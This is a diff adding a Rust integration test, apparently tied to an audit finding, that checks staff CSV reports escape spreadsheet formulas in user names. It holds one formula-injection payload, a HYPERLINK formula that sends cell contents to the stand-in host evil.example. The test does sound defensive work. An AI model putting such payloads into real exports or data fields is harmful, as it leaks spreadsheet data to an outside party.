@@ -413,3 +413,50 @@ async fn numbers_past_the_domains_range_are_refused() {
     a.assert_problem(422, "validation_failed");
     assert_eq!(a.error_fields(), vec!["cost_idr"], "{}", a.text);
 }
+
+/// Finding 7: a name that is a spreadsheet formula reaches the CSV as text (a leading `'`),
+/// while numbers stay numbers.
+#[tokio::test]
+async fn csv_reports_carry_no_live_formulas() {
+    let w = World::new().await;
+    let event = w.event(&w.staff.token).await;
+    w.app
+        .sync_items(&w.staff.token, &[activated(&event)])
+        .await
+        .assert_status(200);
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Siti")"#;
+    w.app
+        .patch(
+            &format!("/users/{}", w.staff.id),
+            &w.app.root_token,
+            json!({ "full_name": formula }),
+        )
+        .await
+        .assert_status(200);
+    let csv = w
+        .app
+        .send(
+            w.app
+                .client
+                .get(w.app.url(&format!(
+                    "/reports/staff?office_id={}&from=2024-03-01&to=2024-03-31",
+                    w.tala
+                )))
+                .bearer_auth(&w.tala_sup.token)
+                .header("accept", "text/csv"),
+        )
+        .await;
+    csv.assert_status(200);
+    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
+    let headers = reader.headers().expect("header row").clone();
+    let name_at = headers
+        .iter()
+        .position(|h| h == "full_name")
+        .expect("full_name column");
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.expect("row")[name_at].to_string())
+        .collect();
+    assert!(names.contains(&format!("'{formula}")), "{names:?}");
+    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
+}
